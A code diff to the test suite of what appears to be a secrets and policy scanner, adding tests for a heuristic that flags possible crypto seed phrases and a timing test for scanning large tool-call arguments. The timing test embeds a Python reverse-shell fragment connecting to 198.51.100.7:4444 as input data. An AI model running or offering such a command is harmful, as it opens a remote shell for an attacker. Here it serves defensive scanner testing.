@@ -1,5 +1,6 @@
 import { describe, expect, test } from "bun:test";
 import { MAX_SUBJECT_CHARS, scan, type Subject } from "../../src/engine/index.ts";
+import { mayHoldCrypto } from "../../src/engine/scan.ts";
 import { policyFrom, stubResolver } from "../helpers/policy.ts";
 
 // A fake AWS key id built at run time so that no scanner flags this file.
@@ -183,5 +184,26 @@ describe("rules.min_confidence", () => {
     expect((await scan(policyFrom("rules:\n  min_confidence: medium\n", [dir]), { kind: "text", text })).findings).toEqual([]);
     const builtin = await scan(policyFrom("rules:\n  min_confidence: high\n"), { kind: "url", url: `https://example.com/?k=${AWS_ID}` });
     expect(builtin.decision).toBe("deny");
+  });
+});
+
+describe("crypto gate", () => {
+  test.each([
+    ["a short URL part", "/v2/search", false],
+    ["eleven words", "one two three four five six seven eight nine ten eleven", false],
+    ["twelve words", "one two three four five six seven eight nine ten eleven twelve", true],
+    ["a 25-character alphanumeric run", "k=" + "a1".repeat(13), true],
+    ["twelve CJK words", "的 一 是 在 不 了 有 和 人 这 中 大", true],
+  ])("mayHoldCrypto(%s) is %p", (_name, text, expected) => {
+    expect(mayHoldCrypto(text as string)).toBe(expected as boolean);
+  });
+
+  test("punctuation-heavy tool arguments scan in linear time (no backtracking gate)", async () => {
+    const unit = `{"command":"python3 -c 'import socket,os;s=socket.socket();s.connect((\\"198.51.100.7\\",4444))'"} `;
+    const text = unit.repeat(Math.ceil((512 * 1024) / unit.length));
+    const started = performance.now();
+    const v = await scan(policy, { kind: "tool_call", toolName: "bash", arguments: { command: text } }, { deadlineMs: 60_000 });
+    expect(v.failure).toBeUndefined();
+    expect(performance.now() - started).toBeLessThan(5_000);
   });
 });
